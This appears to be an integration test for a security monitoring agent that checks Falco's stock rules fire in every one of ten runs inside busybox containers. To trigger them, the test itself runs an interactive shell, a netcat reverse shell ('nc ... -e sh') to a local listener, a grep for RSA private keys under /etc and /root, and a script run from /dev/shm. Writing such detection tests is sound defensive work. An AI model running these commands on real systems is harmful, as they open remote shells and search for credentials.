import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { docker, integrationUnavailable } from './docker-env.js';
import { startAgent, type AgentHandle, type JsonAlert } from './harness/agent.js';
import { bridgeGateway, removeAllPods, runPod, type Pod } from './harness/pods.js';
import { slowListen } from './harness/slow-listener.js';

/**
 * Falco's stable rule file alone, against the behaviours its rules are
 * written for, in busybox pods laid out as the kubelet does: every rule
 * must fire in every one of ten runs. busybox runs applets through a
 * re-exec of /proc/self/exe (named `exe` until it renames itself) and execs
 * a script's shell in place, which is what made these rules fire in some
 * runs only.
 */
const FALCO = fileURLToPath(new URL('../../../shared/corpora/falco/falco_rules.yaml', import.meta.url));
const BUSYBOX = 'vigil-test/busybox:latest';
const RUNS = 10;
const unavailable = integrationUnavailable() ?? (existsSync(FALCO) ? undefined : `${FALCO} is absent`);

describe.skipIf(unavailable)("Falco's stable rules on busybox pods, ten runs out of ten", () => {
  let agent: AgentHandle;
  let gateway: string;

  beforeAll(async () => {
    gateway = bridgeGateway();
    agent = await startAgent(['--scan-interval-ms', '1000', '--rules', FALCO]);
  });
  afterEach(() => removeAllPods());
  afterAll(async () => {
    removeAllPods();
    expect(await agent?.stop()).toBe(0);
  });

  const inPod = (pod: Pod, rule: string) => (a: JsonAlert) => a.rule === rule && a.output_fields['container.id'] === pod.id.slice(0, 12);

  it('raises Terminal shell, Netcat RCE, Redirect STDOUT/STDIN, Search Private Keys and Execution from /dev/shm every time', async () => {
    const missed: string[] = [];
    for (let run = 0; run < RUNS; run++) {
      const pod = runPod({ namespace: 'falco', pod: `bb-${run}`, container: 'app', image: BUSYBOX, command: ['sleep', '600'] });
      const attacker = await slowListen(gateway);
      try {
        // kubectl exec -it: a shell with a terminal.
        execFileSync('script', ['-qec', `docker exec -it ${pod.id} sh -c 'sleep 1; echo done'`, '/dev/null'], { stdio: 'ignore' });
        // nc -e from a shell (busybox sh re-execs /proc/self/exe as nc), to a peer one round trip away.
        docker('exec', '-d', pod.id, 'sh', '-c', `nc ${gateway} ${attacker.port} -e sh; true`);
        attacker.release();
        // A search for private keys over a tree with some data in it.
        docker('exec', pod.id, 'sh', '-c', 'dd if=/dev/zero of=/tmp/blob bs=1M count=32 2>/dev/null; grep -r "BEGIN RSA PRIVATE" /etc /root /tmp; true');
        // A script dropped in /dev/shm and run.
        docker('exec', pod.id, 'sh', '-c', 'printf "sleep 1\\n" > /dev/shm/x.sh; sh /dev/shm/x.sh; true');
        await attacker.connected(15_000);
        for (const rule of [
          'Terminal shell in container',
          'Netcat Remote Code Execution in Container',
          'Redirect STDOUT/STDIN to Network Connection in Container',
          'Search Private Keys or Passwords',
          'Execution from /dev/shm',
        ]) {
          const alert = await agent.waitForAlert(inPod(pod, rule), 10_000).catch(() => undefined);
          if (!alert) missed.push(`run ${run + 1}: ${rule}`);
        }
      } finally {
        attacker.close();
        removeAllPods();
      }
    }
    expect(missed).toEqual([]);
  });
});
